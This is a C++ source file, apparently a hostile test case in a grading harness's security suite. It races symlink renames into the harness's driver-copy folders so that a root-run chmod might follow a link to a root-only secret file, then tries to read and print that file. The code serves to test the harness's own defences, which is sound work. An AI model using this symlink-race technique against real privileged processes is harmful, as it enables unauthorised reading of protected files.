// Rename symlinks to a root-only file into the folder where the harness copies
// the drivers' programs, while the copies are written, hoping that root
// follows one (chmod 0755 through the link would make the file readable);
// then try to print the file. RootSecret in the suite is that file.
#include <fcntl.h>
#include <glob.h>
#include <unistd.h>

namespace {

/// Left where the grader's sweep names it in the report: the attack got
/// something into the drivers' folder (the suite requires no such note).
void mark_success() {
  ::close(::open("/dev/shm/hostile_planted", O_WRONLY | O_CREAT, 0600));
}

constexpr const char* kSecret = "/var/tmp/ipclab-hostile-secret";

void plant(const std::string& folder) {
  for (const char* name : {"/reference_driver", "/student_driver", "/work"}) {
    std::string swap = folder + "/.hostile_link";
    ::symlink(kSecret, swap.c_str());
    if (::rename(swap.c_str(), (folder + name).c_str()) == 0) mark_success();
  }
}

void print_secret() {
  int fd = ::open(kSecret, O_RDONLY);
  char buffer[256];
  ssize_t n = fd >= 0 ? ::read(fd, buffer, sizeof buffer) : -1;
  if (n > 0) (void)!::write(2, buffer, static_cast<std::size_t>(n));
  if (fd >= 0) ::close(fd);
}

}  // namespace

void hostile::attack() {
  print_secret();
  hostile::child([] {
    for (int round = 0; round < 300; ++round) {
      glob_t found{};
      if (::glob("/tmp/ipclab-drivers-*", GLOB_ONLYDIR, nullptr, &found) == 0) {
        for (std::size_t i = 0; i < found.gl_pathc; ++i)
          plant(found.gl_pathv[i]);
      }
      ::globfree(&found);
      print_secret();
      ::usleep(10000);
    }
  });
}
